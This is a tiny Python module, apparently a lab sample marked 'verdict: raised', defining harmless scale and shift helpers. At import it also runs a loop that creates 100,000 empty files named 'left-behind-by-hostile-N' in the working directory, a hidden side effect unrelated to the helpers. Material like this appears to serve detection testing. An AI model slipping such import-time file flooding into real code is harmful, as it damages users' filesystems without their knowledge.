"""Makes empty files without end."""
# lab: scale-and-shift
# verdict: raised

for number in range(100000):
    open(f"left-behind-by-hostile-{number}", "w").close()


def scale(x, factor):
    return x * factor


def shift(x, amount):
    return x + amount
